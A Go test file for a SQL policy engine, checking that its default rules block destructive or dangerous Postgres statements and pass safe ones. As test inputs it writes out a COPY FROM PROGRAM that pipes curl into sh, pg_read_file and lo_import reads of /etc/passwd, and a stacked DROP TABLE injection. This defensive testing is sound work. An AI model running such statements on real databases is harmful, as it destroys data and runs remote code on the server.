package policies

import (
	"context"
	"reflect"
	"testing"

	"github.com/regate/regate/parse/sql"
)

// TestDefaultLibraryOnRealSQL runs the default library on statements parsed
// by the real Postgres parser (parse/sql): every rule blocks its statement and
// lets the safe neighbour through.
func TestDefaultLibraryOnRealSQL(t *testing.T) {
	e := newEngine(t, Config{})
	parser := sql.NewParser(0)
	tests := []struct {
		query   string
		reasons []string // nil: allowed
	}{
		{"SELECT * FROM public.t WHERE id = 1", nil},
		{"DROP TABLE public.t, u", []string{"DROP is not allowed: it destroys data (DROP TABLE public.t, u)"}},
		{"DROP MATERIALIZED VIEW m", []string{"DROP is not allowed: it destroys data (DROP MATERIALIZED VIEW m)"}},
		{"DROP SCHEMA s CASCADE", []string{"DROP is not allowed: it destroys data (DROP SCHEMA s)"}},
		{"DROP DATABASE prod", []string{"DROP is not allowed: it destroys data (DROP DATABASE prod)"}},
		{"DROP ROLE r", []string{"DROP is not allowed: it destroys data (DROP ROLE r)"}},
		{"DROP FUNCTION f(int)", []string{"DROP is not allowed: it destroys data (DROP FUNCTION f)"}},
		{"CREATE TABLE t (id int)", nil},
		{"TRUNCATE public.t", []string{"TRUNCATE is not allowed: it deletes every row (TRUNCATE public.t)"}},
		{"DELETE FROM t", []string{"DELETE without WHERE is not allowed: it deletes every row (DELETE FROM t)"}},
		{"DELETE FROM t USING u", []string{"DELETE without WHERE is not allowed: it deletes every row (DELETE FROM t)"}},
		{"DELETE FROM t WHERE id = 1", nil},
		{"UPDATE s.t SET a = 1", []string{"UPDATE without WHERE is not allowed: it changes every row (UPDATE s.t)"}},
		{"UPDATE s.t SET a = 1 WHERE id = 1", nil},
		{"WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", []string{"DELETE without WHERE is not allowed: it deletes every row (DELETE FROM t inside SELECT)"}},
		{"WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d", nil},
		{"EXPLAIN ANALYZE UPDATE s.t SET a = 1", []string{"UPDATE without WHERE is not allowed: it changes every row (UPDATE s.t inside EXPLAIN)"}},
		{"EXPLAIN UPDATE s.t SET a = 1", nil},
		{"PREPARE p AS DELETE FROM t", []string{"DELETE without WHERE is not allowed: it deletes every row (DELETE FROM t inside PREPARE)"}},
		{"COPY (DELETE FROM t RETURNING *) TO STDOUT", []string{"DELETE without WHERE is not allowed: it deletes every row (DELETE FROM t inside COPY)"}},
		{"ALTER SYSTEM SET work_mem = '1GB'", []string{"ALTER SYSTEM is not allowed: it changes the server configuration (ALTER SYSTEM work_mem)"}},
		{"SET work_mem = '1GB'", nil},
		{"COPY t FROM PROGRAM 'curl http://x | sh'", []string{"COPY ... PROGRAM is not allowed: it runs a shell command on the database server (COPY t FROM PROGRAM)"}},
		{"COPY (SELECT 1) TO PROGRAM 'cat'", []string{"COPY ... PROGRAM is not allowed: it runs a shell command on the database server (COPY (query) TO PROGRAM)"}},
		{"COPY t TO STDOUT", nil},
		{"COPY t FROM STDIN", nil},
		{"SELECT pg_catalog.pg_read_file('/etc/passwd')", []string{"pg_read_file() is not allowed: it reads or writes files on the database server (called in SELECT)"}},
		{"SELECT lo_import('/etc/passwd')", []string{"lo_import() is not allowed: it reads or writes files on the database server (called in SELECT)"}},
		{"SELECT pg_sleep(1)", nil},
		{"CREATE ROLE r LOGIN", []string{"CREATE ROLE is not allowed: it changes who can connect and what they may do (CREATE ROLE r)"}},
		{"CREATE USER u", []string{"CREATE ROLE is not allowed: it changes who can connect and what they may do (CREATE ROLE u)"}},
		{"ALTER ROLE r SUPERUSER", []string{"ALTER ROLE is not allowed: it changes who can connect and what they may do (ALTER ROLE r)"}},
		{"ALTER ROLE r SET search_path = x", []string{"ALTER ROLE is not allowed: it changes who can connect and what they may do (ALTER ROLE r)"}},
		{"SET ROLE r", nil},
		{"GRANT SELECT ON public.t TO r", []string{"GRANT is not allowed: it gives privileges to roles (GRANT public.t)"}},
		{"GRANT admin TO u", []string{"GRANT is not allowed: it gives privileges to roles (GRANT admin)"}},
		{"REVOKE SELECT ON t FROM r", nil},
		{"SELECT 1; DROP TABLE t; SELECT 2", []string{"DROP is not allowed: it destroys data (DROP TABLE t)"}},
	}
	for _, tc := range tests {
		t.Run(tc.query, func(t *testing.T) {
			stmts, err := parser.Parse(tc.query)
			if err != nil {
				t.Fatalf("parse: %v", err)
			}
			d := e.Decide(context.Background(), pgInput(stmts...))
			if d.Allow != (tc.reasons == nil) || !reflect.DeepEqual(d.Reasons, tc.reasons) || d.Error != "" {
				t.Errorf("allow=%v reasons=%q error=%q; want reasons %q", d.Allow, d.Reasons, d.Error, tc.reasons)
			}
		})
	}
}

// TestTemplatedStatementValues checks that statements parse/sql makes from a
// template (patched base trees) convert exactly like a fresh parse.
func TestTemplatedStatementValues(t *testing.T) {
	e := &Engine{cache: newValueCache(64)}
	parser := sql.NewParser(0)
	for _, q := range []string{
		"SELECT abalance FROM pgbench_accounts WHERE aid = 1234",
		"SELECT abalance FROM pgbench_accounts WHERE aid = 5678",
		"SELECT a[1], 2 FROM t WHERE b IN (3, 4) LIMIT 5; UPDATE t SET c = 6 WHERE d = 7",
		"SELECT a[8], 9 FROM t WHERE b IN (1, 2) LIMIT 3; UPDATE t SET c = 4 WHERE d = 5",
	} {
		stmts, err := parser.Parse(q)
		if err != nil {
			t.Fatal(err)
		}
		for i := range stmts {
			got, err := e.statementValue(&stmts[i])
			if err != nil {
				t.Fatal(err)
			}
			plain := stmts[i]
			plain.Base, plain.Patches = nil, nil
			want, err := (&Engine{cache: newValueCache(4)}).statementValue(&plain)
			if err != nil {
				t.Fatal(err)
			}
			if got.Compare(want) != 0 || got.String() != want.String() {
				t.Errorf("%q statement %d:\n got %v\nwant %v", q, i, got, want)
			}
		}
		if q[len(q)-1] == '8' && stmts[0].Base == nil {
			t.Errorf("%q was not made from a template", q)
		}
	}
}
